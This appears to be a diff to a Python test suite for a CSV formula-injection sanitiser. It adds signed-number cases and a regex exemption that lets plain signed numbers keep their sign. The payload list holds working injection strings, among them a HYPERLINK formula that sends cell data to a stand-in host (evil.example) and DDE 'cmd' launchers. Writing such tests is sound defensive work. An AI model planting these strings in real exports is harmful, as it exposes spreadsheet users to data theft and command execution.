@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import numpy as np
 import pandas as pd
@@ -19,6 +20,10 @@ PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "=cmd|' /C calc'!A0",
     "+1+1",
+    "+6.0% (area around)",
+    "-1,2",
+    "+1;=1",
+    "-2\n",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
@@ -37,7 +42,21 @@ PAYLOADS = [
     "-",
     "=",
 ]
-PLAIN = ["", "Stoke-on-Trent", "a = b", "x@example.org", "1+1", "'quoted'", "Ynys Môn", " two words", "5% to 10%"]
+PLAIN = [
+    "+12.7%",
+    "-3.2",
+    "+1,234",
+    "-1e-05",
+    "",
+    "Stoke-on-Trent",
+    "a = b",
+    "x@example.org",
+    "1+1",
+    "'quoted'",
+    "Ynys Môn",
+    " two words",
+    "5% to 10%",
+]
 
 
 def cells(text: str) -> list[list[str]]:
@@ -68,6 +87,8 @@ def test_a_header_is_a_text_too(payload: str) -> None:
 def test_no_text_begins_with_a_sign_of_a_formula(text: str) -> None:
     safe = harmless(text)
     assert safe in (text, f"'{text}")
+    if re.fullmatch(r"[+-][0-9.,eE%+-]+", text):
+        return  # a number with its sign may stay: see PLAIN and PAYLOADS
     assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
     assert harmless(safe) == safe
 
